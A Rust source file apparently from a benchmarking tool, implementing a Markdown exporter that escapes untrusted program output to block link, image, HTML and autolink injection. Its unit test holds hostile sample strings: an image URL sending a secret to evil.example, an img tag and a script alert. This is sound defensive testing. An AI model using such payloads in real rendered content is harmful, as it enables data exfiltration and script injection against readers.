//! Markdown: the document's facts as a list, each table with its notes.

use anyhow::Result;

use super::Exporter;
use crate::{Document, Table};

pub struct Markdown;

/// Text made inert for Markdown, on one line: every character that can
/// start a link, an image (both need `[`), an autolink or inline HTML
/// (`<`) is backslash-escaped (CommonMark's escapes of ASCII punctuation;
/// emphasis and code spans are harmless and stay readable: nothing in a
/// code span is markup), a leading `>` too (a block quote), and the
/// `://` and `www.` of a bare URL get a zero-width space, so GitHub's
/// extended autolinks do not make it a link either. Notes quote programs'
/// stderr: a contributed program could print `![x](https://host/?secret)`,
/// an image whoever renders summary.md would fetch.
fn escape(s: &str) -> String {
    // One inert line first (crates/document/src/inert.rs): no escape sequence or control
    // character reaches whoever `cat`s the file.
    let text = crate::inert::text(s);
    let mut out = String::with_capacity(text.len());
    for (i, c) in text.char_indices() {
        // `>` is markup only where a line starts (a block quote); the
        // text is one line, so only before anything but spaces.
        let quote = c == '>' && text[..i].trim().is_empty();
        // Backticks stay: a code span's content is never markup (the
        // escapes show literally there, and nothing becomes a link), and
        // langbench's own facts use them for commands.
        if matches!(c, '\\' | '[' | ']' | '<' | '|') || quote {
            out.push('\\');
        }
        out.push(c);
    }
    out.replace("://", ":\u{200b}//")
        .replace("www.", "www\u{200b}.")
}

pub fn table(t: &Table) -> String {
    let cols = t.display_columns();
    let header: Vec<String> = cols.iter().map(|&i| escape(&t.columns[i].header)).collect();
    let mut out = format!("| {} |\n|", header.join(" | "));
    for &i in &cols {
        out.push_str(if t.columns[i].kind.is_numeric() {
            " ---: |"
        } else {
            " --- |"
        });
    }
    out.push('\n');
    for row in &t.rows {
        let cells: Vec<String> = cols.iter().map(|&i| escape(&row[i].text)).collect();
        out.push_str(&format!("| {} |\n", cells.join(" | ")));
    }
    out
}

impl Exporter for Markdown {
    fn render(&self, doc: &Document) -> Result<Vec<u8>> {
        let mut out = format!("# {}\n\n", escape(&doc.title));
        for (k, v) in &doc.meta {
            out.push_str(&format!("- {k}: {}\n", escape(v)));
        }
        if !doc.details.is_empty() {
            out.push_str(&format!("- Details ({}):\n", doc.details.len()));
            for (k, v) in &doc.details {
                out.push_str(&format!("  - {}: {}\n", escape(k), escape(v)));
            }
        }
        let tables: Vec<&Table> = doc.tables.iter().filter(|t| !t.data_only).collect();
        for t in &tables {
            out.push('\n');
            if tables.len() > 1 {
                out.push_str(&format!("## {}\n\n", escape(&t.title)));
            }
            out.push_str(&table(t));
            if !t.notes.is_empty() {
                out.push_str("\n\\* Notes:\n\n");
                for n in &t.notes {
                    out.push_str(&format!("- {}\n", escape(&n.to_string())));
                }
            }
        }
        if !doc.charts.is_empty() {
            // The chart ids are langbench's own (benchmark names), not text
            // from a program.
            out.push_str("\nCharts: ");
            let links: Vec<String> = doc
                .charts
                .iter()
                .map(|c| format!("[{}](charts/{}.svg)", escape(&c.title), c.id))
                .collect();
            out.push_str(&links.join(" · "));
            out.push('\n');
        }
        Ok(out.into_bytes())
    }
}

#[cfg(test)]
mod tests {
    use super::escape;
    use pulldown_cmark::{Event, Parser, Tag};

    /// What a hostile program could print into a note renders as text:
    /// a CommonMark parser finds no link, image or HTML in it.
    #[test]
    fn a_hostile_note_renders_as_plain_text() {
        let hostile = "error: ![x](https://evil.example/?k=secret) <img src=\"https://evil.example/i\"> \
                       [y](https://evil.example/l) <https://evil.example/a> [r][1]\n\n[1]: https://evil.example/r \
                       `code` **bold** <script>alert(1)</script> `[z](https://evil.example/c)` `unclosed [w](https://evil.example/w)";
        let md = format!("- {}\n", escape(hostile));
        for e in Parser::new(&md) {
            match e {
                Event::Start(Tag::Link { .. } | Tag::Image { .. })
                | Event::Html(_)
                | Event::InlineHtml(_) => panic!("{e:?} in {md}"),
                _ => {}
            }
        }
        // The words are all still there for a reader.
        let text: String = Parser::new(&md)
            .filter_map(|e| match e {
                Event::Text(t) => Some(t.into_string()),
                _ => None,
            })
            .collect();
        assert!(
            text.contains("![x](https:\u{200b}//evil.example/?k=secret)"),
            "{text}"
        );
        assert!(text.contains("<script>alert(1)</script>"), "{text}");
    }
}
